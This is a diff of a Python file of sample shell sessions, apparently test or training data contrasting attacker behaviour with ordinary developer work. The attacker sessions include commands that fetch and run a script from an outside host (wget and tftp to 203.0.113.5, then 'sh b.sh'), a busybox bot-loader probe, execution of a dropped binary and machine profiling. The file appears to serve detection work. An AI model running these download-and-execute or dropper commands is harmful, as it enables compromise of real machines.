@@ -127,7 +127,7 @@ SESSIONS = {
     "several ways in": ["wget http://203.0.113.5/b.sh", "tftp 203.0.113.5 -c get b.sh", "sh b.sh"],
     "loader of a bot": ["enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox QWERT"],
     "file by scp's far side": ["scp -t /tmp/aBcD1234", "cd /tmp && chmod +x aBcD1234 && bash -c ./aBcD1234"],
-    "program typed in": ["cat > /usr/bin/qwerty", "chmod +x /usr/bin/qwerty", "scp -tr /usr/libexec/", "C0755 32707 qwerty"],
+    "program typed in": ["cat > /usr/bin/qwerty", "chmod +x /usr/bin/qwerty", "scp -tr /usr/lib/", "C0755 1 qwerty"],
     "profile of the machine": [
         "uname -a", "cat /proc/cpuinfo | grep name | head -n 1", "free -m | grep Mem", "lspci | grep VGA", "w",
         "crontab -l",
@@ -157,7 +157,8 @@ EXPLORING = [
 ]
 BUILDING = [
     "git clone https://git.example/app.git", "cd app", "ls", "cat README.md", "pip install -e .", "pytest -q",
-    "grep -rn total src", "sed -n 1,40p src/app.py", "chmod +x run_tests.sh", "./run_tests.sh", "git diff", "ps aux | head", "df -h",
+    "grep -rn total src", "sed -n 1,40p src/app.py", "chmod +x run_tests.sh", "./run_tests.sh", "git diff", "df -h",
+    "ps aux | head",
     "curl -s http://localhost:8080/",
 ]  # fmt: skip
 
